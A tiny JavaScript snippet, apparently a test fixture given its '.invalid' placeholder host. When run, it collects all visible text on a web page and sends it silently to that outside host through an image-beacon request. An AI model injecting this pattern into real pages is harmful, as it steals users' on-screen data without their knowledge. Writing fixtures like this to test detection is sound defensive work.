(function () {
  const text = document.body.innerText;
  new Image().src = 'https://lines.fixture.invalid/m.gif?d=' + encodeURIComponent(text);
})();
